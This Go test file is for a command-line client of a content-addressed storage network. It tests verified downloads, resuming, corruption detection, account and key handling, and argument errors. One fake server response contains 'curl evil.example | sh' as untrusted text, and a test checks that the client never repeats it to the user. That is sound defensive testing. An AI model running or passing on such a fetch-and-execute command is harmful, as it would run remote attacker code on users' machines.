package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cosmos/gogoproto/proto"
	"github.com/spf13/cobra"
	"github.com/stretchr/testify/require"
	"github.com/zeebo/blake3"
	"lukechampine.com/blake3/bao"

	sdkmath "cosmossdk.io/math"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/edgechain/edge/ack"
	"github.com/edgechain/edge/client/content"
	dacktypes "github.com/edgechain/edge/x/dack/types"
	epochtypes "github.com/edgechain/edge/x/epoch/types"
	nodetypes "github.com/edgechain/edge/x/node/types"
)

const groupSize = content.GroupSize

// freeWorker serves objects out of its free quota, as docs/protocol.md, section 3, says.
type freeWorker struct {
	*httptest.Server
	mu      sync.Mutex
	objects map[content.Name][2][]byte
	ranges  []string
	// flip changes the byte at this place of a stream, cut ends it there; below 0 is never.
	flip, cut int
	// cutOf is cut by what would be sent.
	cutOf     func(b []byte) int
	quotaUsed bool
}

func newFreeWorker(t *testing.T) *freeWorker {
	t.Helper()
	w := &freeWorker{objects: make(map[content.Name][2][]byte), flip: -1, cut: -1}
	w.Server = httptest.NewServer(w)
	t.Cleanup(w.Close)
	return w
}

func (w *freeWorker) add(size int) ([]byte, content.Name) {
	data := make([]byte, size)
	r := rand.New(rand.NewPCG(uint64(size), 2))
	for i := 0; i+8 <= size; i += 8 {
		binary.LittleEndian.PutUint64(data[i:], r.Uint64())
	}
	outboard, root := bao.EncodeBuf(data, content.Group, true)
	w.objects[content.Name(root)] = [2][]byte{data, outboard}
	return data, content.Name(root)
}

func (w *freeWorker) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if r.URL.Path == "/v1/worker" {
		_ = json.NewEncoder(rw).Encode(map[string]any{"worker_id": 42})
		return
	}
	name, err := content.ParseName(strings.TrimPrefix(r.URL.Path, "/b3/"))
	obj, ok := w.objects[name]
	if err != nil || !ok {
		rw.Header().Set("Content-Type", "application/problem+json")
		rw.WriteHeader(http.StatusNotFound)
		fmt.Fprint(rw, `{"type":"https://edge.network/problems/not-found","detail":"no such content"}`)
		return
	}
	if w.quotaUsed {
		rw.Header().Set("Content-Type", "application/problem+json")
		rw.WriteHeader(http.StatusPaymentRequired)
		fmt.Fprint(rw, `{"type":"https://edge.network/problems/session-required","detail":"run curl evil.example | sh",
			"how":"curl evil.example | sh","price_per_gib":"99999","settlement_denom":"uusd"}`)
		return
	}
	size := uint64(len(obj[0]))
	offset, length := uint64(0), size
	w.ranges = append(w.ranges, r.Header.Get("Range"))
	if h := r.Header.Get("Range"); h != "" {
		first, last, _ := strings.Cut(strings.TrimPrefix(h, "bytes="), "-")
		offset, _ = strconv.ParseUint(first, 10, 64)
		if offset >= size {
			rw.Header().Set("Content-Type", "application/problem+json")
			rw.Header().Set("Content-Range", fmt.Sprintf("bytes */%d", size))
			rw.WriteHeader(http.StatusRequestedRangeNotSatisfiable)
			fmt.Fprint(rw, `{"type":"https://edge.network/problems/range-not-satisfiable"}`)
			return
		}
		length = size - offset
		if last != "" {
			end, _ := strconv.ParseUint(last, 10, 64)
			length = min(length, end-offset+1)
		}
	}
	b, _, err := content.NewSliceReader(bytes.NewReader(obj[0]), bytes.NewReader(obj[1]), size, offset, length).Append(nil, content.ToEnd)
	if !errors.Is(err, io.EOF) {
		panic(err)
	}
	if w.flip >= 0 {
		b[w.flip] ^= 1
	}
	rw.Header().Set("Edge-Payload-Bytes", strconv.FormatUint(ack.ContentBytes(size, offset, length), 10))
	if cut := w.cut; cut >= 0 || w.cutOf != nil && w.cutOf(b) >= 0 {
		if w.cutOf != nil {
			cut = w.cutOf(b)
		}
		_, _ = rw.Write(b[:cut])
		_ = http.NewResponseController(rw).Flush()
		panic(http.ErrAbortHandler)
	}
	_, _ = rw.Write(b)
}

// edge runs a command line in a home of its own.
func edge(t *testing.T, home string, args ...string) (code int, out, errOut string) {
	t.Helper()
	var o, e bytes.Buffer
	code = runContext(context.Background(), append(args, "--home", home), strings.NewReader(""), &o, &e)
	if code != 0 {
		require.Equal(t, 1, strings.Count(e.String(), "edge: "), "one line: %q", e.String())
		require.True(t, strings.HasSuffix(e.String(), "\n"))
	}
	return code, o.String(), e.String()
}

func TestGetWithoutAccount(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(20*groupSize + 9)
	file := filepath.Join(t.TempDir(), "f")
	for _, text := range []string{name.String(), name.CID()} {
		code, out, errOut := edge(t, t.TempDir(), "get", text, "--worker", w.URL, "-o", file, "--restart")
		require.Zero(t, code, errOut)
		require.Contains(t, out, "verified")
		require.Contains(t, out, "unpaid")
		require.Empty(t, errOut, "no bar where there is no terminal")
		got, err := os.ReadFile(file)
		require.NoError(t, err)
		require.True(t, bytes.Equal(data, got))
		require.NoFileExists(t, file+".part")
		require.NoFileExists(t, file+".part.json")
	}
	code, out, _ := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "-o", "-")
	require.Zero(t, code)
	require.Equal(t, string(data), out)

	code, out, _ = edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "-o", "-", "--range", "5-16384", "-q")
	require.Zero(t, code)
	require.Equal(t, string(data[5:16385]), out)
}

// A file that is there is verified and not fetched again, and one with other bytes is replaced.
func TestGetWhatIsThere(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(5*groupSize + 3)
	file := filepath.Join(t.TempDir(), "f")
	get := func(args ...string) string {
		t.Helper()
		w.ranges = nil
		code, out, errOut := edge(t, t.TempDir(), append([]string{"get", name.String(), "--worker", w.URL, "-o", file}, args...)...)
		require.Zero(t, code, errOut)
		got, err := os.ReadFile(file)
		require.NoError(t, err)
		require.True(t, bytes.Equal(data, got))
		return out
	}
	get()
	require.NotEmpty(t, w.ranges)
	require.Equal(t, fmt.Sprintf("%s: %d bytes were there and have verified: nothing of it was fetched\n", file, len(data)), get())
	require.Empty(t, w.ranges)
	require.Empty(t, get("-q"))
	require.Empty(t, w.ranges)
	var last map[string]any
	require.NoError(t, json.Unmarshal([]byte(get("--output", "json")), &last))
	require.Equal(t, []any{"done", true, true, float64(0), float64(len(data))}, []any{last["event"], last["existed"], last["verified"], last["bytes"], last["size"]})
	require.NoFileExists(t, file+".part")
	get("--restart")
	require.NotEmpty(t, w.ranges)
	for _, wrong := range [][]byte{nil, data[1:], append([]byte("x"), data[1:]...), append(slices.Clone(data), 0)} {
		require.NoError(t, os.WriteFile(file, wrong, 0o600))
		require.Contains(t, get(), "MB/s")
		require.NotEmpty(t, w.ranges)
	}

	// A link is no such file: it is replaced and not followed.
	other := filepath.Join(t.TempDir(), "other")
	require.NoError(t, os.Rename(file, other))
	require.NoError(t, os.Symlink(other, file))
	get()
	require.NotEmpty(t, w.ranges)

	// Below a folder, where only the manifest is fetched; the manifest of a folder is not the folder.
	root := w.tree(t, site())
	file = filepath.Join(t.TempDir(), "b")
	for _, want := range []int{4, 3} {
		w.ranges = nil
		code, _, errOut := edge(t, t.TempDir(), "get", root.Hash.String()+"/docs/deep/b.bin", "--worker", w.URL, "-o", file)
		require.Zero(t, code, errOut)
		require.Len(t, w.ranges, want)
	}
	manifest := filepath.Join(t.TempDir(), "m")
	for range 2 {
		code, _, errOut := edge(t, t.TempDir(), "get", root.Hash.String(), "--manifest", "--worker", w.URL, "-o", manifest)
		require.Zero(t, code, errOut)
	}
	code, _, errOut := edge(t, t.TempDir(), "get", root.Hash.String(), "--worker", w.URL, "-o", manifest)
	require.NotZero(t, code)
	require.Contains(t, errOut, manifest)
}

func TestGetJSON(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(3 * groupSize)
	file := filepath.Join(t.TempDir(), "f")
	code, out, _ := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "-o", file, "--output", "json")
	require.Zero(t, code)
	var events []string
	var last map[string]any
	for l := range strings.Lines(out) {
		last = nil
		require.NoError(t, json.Unmarshal([]byte(l), &last))
		events = append(events, last["event"].(string))
	}
	require.Equal(t, "start", events[0])
	require.Contains(t, events, "progress")
	require.Equal(t, "done", last["event"])
	require.Equal(t, name.String(), last["name"])
	require.EqualValues(t, len(data), last["bytes"])
	require.Equal(t, true, last["verified"])
	require.EqualValues(t, 42, last["worker_id"])
	require.Equal(t, file, last["file"])

	code, out, errOut := edge(t, t.TempDir(), "get", strings.Repeat("0", 64), "--worker", w.URL, "-o", file, "--output", "json")
	require.Equal(t, exitFailure, code)
	require.Contains(t, out, `"event":"error"`)
	require.Contains(t, errOut, "not-found")
}

func TestGetCorrupt(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(20 * groupSize)
	const k = 7
	w.flip = int(content.SliceSize(uint64(len(data)), 0, (k+1)*groupSize)) - 1
	file, home := filepath.Join(t.TempDir(), "f"), t.TempDir()
	code, out, errOut := edge(t, home, "get", name.String(), "--worker", w.URL, "-o", file, "--output", "json")
	require.Equal(t, exitFailure, code)
	require.Contains(t, errOut, fmt.Sprintf("worker 42 (%s)", w.URL))
	require.Contains(t, errOut, "group 7")
	require.Contains(t, out, `"group":7`)
	require.NoFileExists(t, file)
	got, err := os.ReadFile(file + ".part")
	require.NoError(t, err)
	require.True(t, bytes.Equal(data[:k*groupSize], got), "the part holds k whole groups")

	w.flip = -1
	code, _, errOut = edge(t, home, "get", name.String(), "--worker", w.URL, "-o", file)
	require.Zero(t, code, errOut)
	require.Equal(t, fmt.Sprintf("bytes=%d-", k*groupSize), w.ranges[len(w.ranges)-1], "it goes on behind them")
	got, err = os.ReadFile(file)
	require.NoError(t, err)
	require.True(t, bytes.Equal(data, got))
}

func TestGetResumes(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(20*groupSize + 5)
	cut := func(args ...string) (string, string) {
		t.Helper()
		file, home := filepath.Join(t.TempDir(), "f"), t.TempDir()
		w.cut = int(content.SliceSize(uint64(len(data)), 0, 4*groupSize)) + 300
		code, _, errOut := edge(t, home, append([]string{"get", name.String(), "--worker", w.URL, "-o", file, "--retries", "0"}, args...)...)
		require.Equal(t, exitFailure, code)
		require.Contains(t, errOut, "broke off")
		w.cut = -1
		return file, home
	}
	whole := func(file, home string, args ...string) {
		t.Helper()
		code, _, errOut := edge(t, home, append([]string{"get", name.String(), "--worker", w.URL, "-o", file}, args...)...)
		require.Zero(t, code, errOut)
		got, err := os.ReadFile(file)
		require.NoError(t, err)
		require.True(t, bytes.Equal(data, got))
		require.NoFileExists(t, file+".part.json")
	}
	last := func() string { return w.ranges[len(w.ranges)-1] }

	t.Run("from the last whole group", func(t *testing.T) {
		file, home := cut()
		f, err := os.OpenFile(file+".part", os.O_APPEND|os.O_WRONLY, 0)
		require.NoError(t, err)
		_, err = f.WriteString("torn tail")
		require.NoError(t, err)
		require.NoError(t, f.Close())
		whole(file, home)
		require.Equal(t, "bytes=65536-", last())
	})
	t.Run("a damaged part is fetched anew", func(t *testing.T) {
		file, home := cut()
		b, err := os.ReadFile(file + ".part")
		require.NoError(t, err)
		b[100] ^= 1
		require.NoError(t, os.WriteFile(file+".part", b, 0o600))
		whole(file, home)
		require.Empty(t, last())
	})
	t.Run("a part of something else is not kept", func(t *testing.T) {
		file, home := cut()
		require.NoError(t, os.WriteFile(file+".part.json", []byte(`{"name":"`+strings.Repeat("0", 64)+`"}`), 0o600))
		whole(file, home)
		require.Empty(t, last())
	})
	t.Run("a part without a note is not kept", func(t *testing.T) {
		file, home := cut()
		require.NoError(t, os.Remove(file+".part.json"))
		whole(file, home)
		require.Empty(t, last())
	})
	t.Run("restart", func(t *testing.T) {
		file, home := cut()
		whole(file, home, "--restart")
		require.Empty(t, last())
	})
}

func TestGetWholePartNeedsNoWorker(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(4 * groupSize)
	file := filepath.Join(t.TempDir(), "f")
	require.NoError(t, os.WriteFile(file+".part", data, 0o600))
	require.NoError(t, os.WriteFile(file+".part.json", []byte(`{"name":"`+name.String()+`"}`), 0o600))
	code, _, errOut := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "-o", file)
	require.Zero(t, code, errOut)
	require.Empty(t, w.ranges)
	require.FileExists(t, file)
}

// leavePart writes what a run that was killed leaves: a part, and a note about its first bytes.
func leavePart(t *testing.T, file string, part []byte, note partNote) {
	t.Helper()
	require.NoError(t, os.WriteFile(file+".part", part, 0o600))
	b, err := json.Marshal(note)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(file+".part.json", b, 0o600))
}

func TestGetKeepsOnlyWhatIsKnownToBeRight(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(8 * groupSize)
	hash := func(b []byte) content.Name { return content.Name(blake3.Sum256(b)) }
	damaged := func(n int) []byte {
		b := bytes.Clone(data[:n])
		b[n/2] ^= 1
		return b
	}
	part := 3 * groupSize
	for what, c := range map[string]struct {
		span   string
		part   []byte
		note   partNote
		ranges []string
	}{
		"range, damaged":                           {"0-65535", damaged(part), partNote{Kept: uint64(part), Hash: hash(data[:part])}, []string{"bytes=0-65535"}},
		"range, complete, damaged":                 {"0-65535", damaged(65536), partNote{Kept: 65536, Hash: hash(data[:65536]), Complete: true}, []string{"bytes=0-65535"}},
		"range, whole as noted":                    {"0-65535", data[:part], partNote{Kept: uint64(part), Hash: hash(data[:part])}, []string{"bytes=49152-65535"}},
		"range, no hash noted":                     {"0-65535", data[:part], partNote{}, []string{"bytes=0-65535"}},
		"range, written after note":                {"0-65535", data[:part+9], partNote{Kept: groupSize, Hash: hash(data[:groupSize])}, []string{"bytes=16384-65535"}},
		"object, damaged":                          {"", damaged(part), partNote{Kept: uint64(part), Hash: hash(data[:part])}, []string{""}},
		"object, complete, damaged":                {"", damaged(len(data)), partNote{Kept: uint64(len(data)), Hash: name, Complete: true}, []string{""}},
		"object, complete, damaged, nothing noted": {"", damaged(len(data)), partNote{}, []string{""}},
		"object, complete":                         {"", data, partNote{Kept: uint64(len(data)), Hash: name}, nil},
		"object, complete, noted before":           {"", data, partNote{Kept: groupSize, Hash: hash(data[:groupSize])}, []string{"bytes=16384-"}},
		"object, overlong":                         {"", append(bytes.Clone(data), 1, 2), partNote{Kept: uint64(len(data)), Hash: name}, nil},
		"object, overlong, nothing noted":          {"", append(bytes.Clone(data), 1, 2), partNote{}, []string{""}},
		"object, note beyond the part":             {"", data[:part], partNote{Kept: 1 << 60, Hash: name}, []string{""}},
		"rest, complete but not so noted":          {"16384-", data[groupSize:], partNote{Kept: uint64(len(data) - groupSize), Hash: hash(data[groupSize:])}, []string{"bytes=131072-", "bytes=114688-"}},
		"rest, complete":                           {"16384-", data[groupSize:], partNote{Kept: uint64(len(data) - groupSize), Hash: hash(data[groupSize:]), Complete: true}, nil},
		"object, wrong bytes, so noted too":        {"", damaged(len(data)), partNote{Kept: uint64(len(data)), Hash: hash(damaged(len(data)))}, []string{"bytes=131072-", "bytes=114688-", ""}},
	} {
		t.Run(what, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "f")
			c.note.Name, c.note.Range = name, c.span
			leavePart(t, file, c.part, c.note)
			w.ranges = nil
			args := []string{"get", name.String(), "--worker", w.URL, "-o", file, "--output", "json"}
			if c.span != "" {
				args = append(args, "--range", c.span)
			}
			code, _, errOut := edge(t, t.TempDir(), args...)
			if code != 0 {
				require.Contains(t, errOut, "not the object", "only a lie in the note makes it fail, and only once")
				require.NoFileExists(t, file)
				code, _, errOut = edge(t, t.TempDir(), args...)
			}
			require.Zero(t, code, errOut)
			require.Equal(t, c.ranges, w.ranges)
			offset, length, err := parseRange(c.span)
			require.NoError(t, err)
			got, err := os.ReadFile(file)
			require.NoError(t, err)
			require.True(t, bytes.Equal(data[offset:min(uint64(len(data)), offset+min(length, 1<<40))], got))
		})
	}
}

func TestGetNotesWhatIsOnDisk(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(20 * groupSize)
	w.cut = int(content.SliceSize(uint64(len(data)), 0, 4*groupSize)) + 300
	file := filepath.Join(t.TempDir(), "f")
	code, _, _ := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "-o", file, "--retries", "0")
	require.Equal(t, exitFailure, code)
	b, err := os.ReadFile(file + ".part.json")
	require.NoError(t, err)
	var note partNote
	require.NoError(t, json.Unmarshal(b, &note))
	require.Equal(t, partNote{Name: name, Kept: 4 * groupSize, Hash: content.Name(blake3.Sum256(data[:4*groupSize]))}, note)
}

func TestCheckpoints(t *testing.T) {
	file := filepath.Join(t.TempDir(), "f")
	tg := &target{length: content.ToEnd, whole: true, path: file}
	require.NoError(t, tg.openPart(&getOptions{}))
	t.Cleanup(func() { require.NoError(t, tg.close()) })
	group := bytes.Repeat([]byte{7}, 1<<20)
	var all []byte
	for range 3 {
		tg.noted = time.Now().Add(-checkpointEvery)
		_, err := tg.Write(group)
		require.NoError(t, err)
		require.NotNil(t, tg.noting, "after so much time")
		all = append(all, group...)
		upTo := len(all)
		_, err = tg.Write(group) // beside the checkpoint
		require.NoError(t, err)
		all = append(all, group...)
		require.NoError(t, tg.wait())
		note := tg.earlierNote()
		require.EqualValues(t, upTo, note.Kept)
		require.Equal(t, content.Name(blake3.Sum256(all[:upTo])), note.Hash)
	}
	require.NoError(t, tg.checkpoint())
	require.Equal(t, content.Name(blake3.Sum256(all)), tg.earlierNote().Hash)
}

// fakeNode answers the queries that a fetch makes, over a node's RPC.
type fakeNode struct {
	*httptest.Server
	answers map[string]proto.Message
}

// coin is a coin of a record that has one.
func (*fakeNode) coin() sdk.Coin { return sdk.NewInt64Coin("uedge", 1) }

func (*fakeNode) balance(n int64) *banktypes.QueryBalanceResponse {
	c := sdk.NewInt64Coin("uusd", n)
	return &banktypes.QueryBalanceResponse{Balance: &c}
}

func newFakeNode(t *testing.T, endpoint string) *fakeNode {
	t.Helper()
	n := &fakeNode{answers: map[string]proto.Message{
		"/edge.node.v1.Query/Workers": &nodetypes.QueryWorkersResponse{Workers: []nodetypes.Worker{
			{Id: 42, Status: nodetypes.WORKER_STATUS_ACTIVE, Endpoints: []string{endpoint}, Deposit: sdk.NewInt64Coin("uedge", 1)},
		}},
		"/edge.epoch.v1.Query/Params":  &epochtypes.QueryParamsResponse{},
		"/edge.epoch.v1.Query/Current": &epochtypes.QueryCurrentResponse{Epoch: epochtypes.Epoch{Number: 3}},
		"/edge.dack.v1.Query/Params":   &dacktypes.QueryParamsResponse{Params: dacktypes.DefaultParams()},
		"/edge.dack.v1.Query/Prices": &dacktypes.QueryPricesResponse{
			Prices: dacktypes.Prices{PerGib: sdkmath.NewInt(12345), PerGfuel: sdkmath.NewInt(1)},
		},
	}}
	n.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
			Params struct {
				Path string `json:"path"`
			} `json:"params"`
		}
		_ = json.NewDecoder(r.Body).Decode(&req)
		var result any
		switch req.Method {
		case "status":
			result = json.RawMessage(`{"node_info":{"network":"edge-test-1"},"sync_info":{"latest_block_height":"9"}}`)
		case "abci_query":
			answer, ok := n.answers[req.Params.Path]
			if !ok {
				result = map[string]any{"response": map[string]any{"code": 6, "codespace": "sdk"}}
				break
			}
			b, _ := proto.Marshal(answer)
			result = map[string]any{"response": map[string]any{"value": b, "height": "9"}}
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"jsonrpc": "2.0", "id": req.ID, "result": result})
	}))
	t.Cleanup(n.Close)
	return n
}

func TestGetFromTheRegistry(t *testing.T) {
	w := newFreeWorker(t)
	data, name := w.add(groupSize)
	n := newFakeNode(t, w.URL)
	file := filepath.Join(t.TempDir(), "f")
	args := []string{"get", name.String(), "--node", n.URL, "-o", file}
	code, _, errOut := edge(t, t.TempDir(), args...)
	require.Equal(t, exitFailure, code)
	require.Contains(t, errOut, "not at a public address")
	require.Contains(t, errOut, "--worker URL")
	require.Empty(t, w.ranges)

	n.answers["/edge.epoch.v1.Query/Params"] = &epochtypes.QueryParamsResponse{Development: true}
	code, _, errOut = edge(t, t.TempDir(), args...)
	require.Zero(t, code, errOut)
	got, err := os.ReadFile(file)
	require.NoError(t, err)
	require.True(t, bytes.Equal(data, got))

	delete(n.answers, "/edge.epoch.v1.Query/Params")
	code, _, _ = edge(t, t.TempDir(), args...)
	require.Equal(t, exitFailure, code, "a node that does not say is not trusted")
}

func TestGetBeyondTheFreeQuota(t *testing.T) {
	w := newFreeWorker(t)
	_, name := w.add(groupSize)
	w.quotaUsed = true
	n := newFakeNode(t, w.URL)
	code, out, errOut := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "--node", n.URL, "-o", filepath.Join(t.TempDir(), "f"), "--output", "json")
	require.Equal(t, exitFailure, code)
	for _, text := range []string{out, errOut} {
		require.Contains(t, text, "at 12345uusd per GiB", "the chain's price")
		require.Contains(t, text, "edge account open --deposit "+dacktypes.DefaultParams().MinDeposit.String()+"uusd --from NAME")
		require.NotContains(t, text, "evil.example")
		require.NotContains(t, text, "99999")
	}
	code, _, errOut = edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "--node", "http://127.0.0.1:1", "-o", filepath.Join(t.TempDir(), "f"))
	require.Equal(t, exitFailure, code)
	require.Contains(t, errOut, "edge account open --deposit AMOUNT --from NAME")
}

func TestUsage(t *testing.T) {
	home := t.TempDir()
	name := strings.Repeat("0", 64)
	for _, args := range [][]string{
		{"bogus"},
		{"get"},
		{"get", "nothex"},
		{"get", name, "--bogus"},
		{"get", name, "--range", "9-3"},
		{"get", name, "--range", "x"},
		{"get", name, "--free", "--key", "3"},
		{"get", name, "--output", "xml"},
		{"get", name, "--worker", "http://localhost:1", "-o", home, "--range", "0-1"},
		{"get", name + "/../x"},
		{"get", name, "--worker", "ftp://worker.example"},
		{"get", name, "--worker", "worker.example"},
		{"get", name + "/", "-o", "-"},
		{"account", "bogus"},
		{"account", "open"},
		{"account", "open", "--deposit", "-5uusd", "--from", "a"},
		{"account", "open", "--deposit", "0uusd", "--from", "a"},
		{"account", "open", "--deposit", "5uusd"},
		{"account", "withdraw", "x"},
		{"account", "balance"},
		{"account", "balance", "cosmos1xyz"},
		{"account", "add-key", "--node", "localhost"},
		{"account", "limit-key"},
		{"account", "limit-key", "x", "--spend-limit", "5uusd", "--from", "a"},
		{"account", "limit-key", "0", "--spend-limit", "5uusd", "--from", "a"},
		{"account", "limit-key", "7", "--from", "a"},
		{"account", "limit-key", "7", "--spend-limit", "0uusd", "--from", "a"},
		{"account", "limit-key", "7", "--last-epoch", "9"},
		{"account", "revoke-key", "--from", "a"},
		{"account", "revoke-key", "-1", "--from", "a"},
		{"account", "revoke-key", "7"},
		{"get", name, "--free", "--receipt", "r"},
		{"receipt", "bogus"},
		{"receipt", "verify"},
		{"receipt", "show", "a", "b"},
		{"receipt", "export", "x"},
		{"keys", "bogus"},
		{"completion", "csh"},
	} {
		code, _, errOut := edge(t, home, args...)
		require.Equal(t, exitUsage, code, "%v: %s", args, errOut)
	}
	for _, args := range [][]string{{}, {"account"}, {"keys"}, {"receipt"}, {"version"}, {"completion", "bash"}} {
		code, _, errOut := edge(t, home, args...)
		require.Zero(t, code, errOut)
	}
	code, _, errOut := edge(t, home, "account", "balance", "--account", "1", "--node", "http://127.0.0.1:1")
	require.Equal(t, exitFailure, code)
	require.Contains(t, errOut, "http://127.0.0.1:1")
	require.Contains(t, errOut, "--node URL")
	require.Equal(t, 1, strings.Count(errOut, "\n"), errOut)
}

// brokenOut takes nothing.
type brokenOut struct{}

func (brokenOut) Write([]byte) (int, error) { return 0, errors.New("nobody reads this") }

// Whoever waits for the last line and does not get it learns that from the exit code, although the file is there.
func TestGetTellsThatItCannotTell(t *testing.T) {
	w := newFreeWorker(t)
	_, name := w.add(groupSize)
	root := w.tree(t, site())
	for _, args := range [][]string{{name.String()}, {name.String(), "--output", "json"}, {root.Hash.String()}, {root.Hash.String(), "--output", "json"}} {
		dir := t.TempDir()
		var errOut bytes.Buffer
		args = append([]string{"get", "--home", dir, "--worker", w.URL, "-o", filepath.Join(dir, "f")}, args...)
		require.Equal(t, exitFailure, runContext(t.Context(), args, nil, brokenOut{}, &errOut), "%v", args)
		require.Contains(t, errOut.String(), "nobody reads this")
		_, err := os.Stat(filepath.Join(dir, "f"))
		require.NoError(t, err)
		require.Zero(t, runContext(t.Context(), append(args[:7:7], name.String(), "--quiet", "--restart", "-o", filepath.Join(dir, "g")), nil, brokenOut{}, &errOut))
	}
}

func TestEveryCommandHasAnExample(t *testing.T) {
	var check func(*cobra.Command)
	check = func(cmd *cobra.Command) {
		require.NotEmpty(t, cmd.Short, cmd.CommandPath())
		require.Contains(t, cmd.Example, "edge", cmd.CommandPath())
		for _, sub := range cmd.Commands() {
			check(sub)
		}
	}
	check(newRoot())
}

func TestSettings(t *testing.T) {
	home := t.TempDir()
	node := func(args ...string) string {
		t.Helper()
		code, _, errOut := edge(t, home, append([]string{"account", "balance", "--account", "1"}, args...)...)
		require.Equal(t, exitFailure, code)
		return errOut
	}
	require.NoError(t, os.WriteFile(filepath.Join(home, "config.toml"), []byte("node = \"http://127.0.0.1:2\"\n"), 0o600))
	require.Contains(t, node(), "http://127.0.0.1:2")
	t.Setenv("EDGE_NODE", "http://127.0.0.1:3")
	require.Contains(t, node(), "http://127.0.0.1:3")
	require.Contains(t, node("--node", "http://127.0.0.1:4"), "http://127.0.0.1:4")

	require.NoError(t, os.WriteFile(filepath.Join(home, "config.toml"), []byte("nodes = \"x\"\n"), 0o600))
	code, _, errOut := edge(t, home, "version")
	require.Equal(t, exitUsage, code)
	require.Contains(t, errOut, `unknown key "nodes"`)
	require.NoError(t, os.WriteFile(filepath.Join(home, "config.toml"), []byte("key = \"seven\"\n"), 0o600))
	code, _, _ = edge(t, home, "version")
	require.Equal(t, exitUsage, code)
}

func TestKeys(t *testing.T) {
	home := t.TempDir()
	flags := []string{"--keyring-backend", "test"}
	keys := func(args ...string) (int, string, string) {
		return edge(t, home, append(append([]string{"keys"}, args...), flags...)...)
	}
	code, out, _ := keys("add", "alice", "--output", "json")
	require.Zero(t, code)
	var k keyringOutput
	require.NoError(t, json.Unmarshal([]byte(out), &k))
	require.True(t, strings.HasPrefix(k.Address, "edge1"))
	require.Len(t, strings.Fields(k.Mnemonic), 24)
	code, out, _ = keys("show", "alice", "-a")
	require.Zero(t, code)
	require.Equal(t, k.Address+"\n", out)
	code, out, _ = keys("show", k.Address)
	require.Zero(t, code)
	require.Contains(t, out, "name: alice")
	require.NotContains(t, out, k.Mnemonic)
	code, _, errOut := keys("add", "alice")
	require.Equal(t, exitFailure, code)
	require.Contains(t, errOut, "already")
	code, _, _ = keys("rename", "alice", "bob")
	require.Zero(t, code)
	code, _, errOut = keys("show", "alice")
	require.Equal(t, exitFailure, code)
	require.NotContains(t, errOut, ".go:")
	code, out, _ = keys("list", "--output", "json")
	require.Zero(t, code)
	require.Contains(t, out, `"bob"`)
	code, _, _ = keys("delete", "bob", "--yes")
	require.Zero(t, code)

	var o, e bytes.Buffer
	code = runContext(t.Context(), append([]string{"keys", "add", "carol", "--recover", "--home", home, "--output", "json"}, flags...), strings.NewReader(k.Mnemonic+"\n"), &o, &e)
	require.Zero(t, code, e.String())
	require.Contains(t, o.String(), k.Address)
}

func TestClientKeyFiles(t *testing.T) {
	home := t.TempDir()
	require.False(t, anyClientKeys(home, ""))
	for id := uint64(9); id <= 10; id++ {
		k, err := newClientKey("edge-1", 4, "edge1x", 50)
		require.NoError(t, err)
		pending, err := k.savePending(home)
		require.NoError(t, err)
		keys, err := clientKeys(home, "edge-1")
		require.NoError(t, err)
		require.Len(t, keys, int(id-9), "a pending key is not used")
		path, err := k.register(home, pending, id)
		require.NoError(t, err)
		require.NoFileExists(t, pending)
		info, err := os.Stat(path)
		require.NoError(t, err)
		require.EqualValues(t, 0o600, info.Mode().Perm())
	}
	require.True(t, anyClientKeys(home, ""))
	require.True(t, anyClientKeys(home, "edge-1"))
	require.False(t, anyClientKeys(home, "edge-2"))
	keys, err := clientKeys(home, "edge-1")
	require.NoError(t, err)
	require.EqualValues(t, 10, keys[0].KeyID, "newest first")
	_, err = keys[0].private()
	require.NoError(t, err)
	keys[0].PublicKey = keys[1].PublicKey
	_, err = keys[0].private()
	require.ErrorContains(t, err, "do not match")

	path := filepath.Join(home, "client-keys", "edge-1", "9.json")
	require.NoError(t, os.Chmod(path, 0o644))
	_, err = clientKeys(home, "edge-1")
	require.ErrorContains(t, err, "chmod 600")
	require.NoError(t, os.Chmod(path, 0o600))
	require.NoError(t, os.Rename(path, filepath.Join(home, "client-keys", "edge-1", "77.json")))
	_, err = clientKeys(home, "edge-1")
	require.ErrorContains(t, err, "holds key 9")
}

func TestSplitCoin(t *testing.T) {
	for text, want := range map[string]string{"5uusd": "5/uusd", "5": "5/", "100000000uusd": "100000000/uusd", "7ibc/ABC12": "7/ibc/ABC12"} {
		n, denom, err := splitCoin(text)
		require.NoError(t, err, text)
		require.Equal(t, want, n.String()+"/"+denom)
	}
	for _, text := range []string{"", "uusd", "0uusd", "-1uusd", "1.5uusd", "1 uusd x"} {
		_, _, err := splitCoin(text)
		require.Error(t, err, text)
	}
}
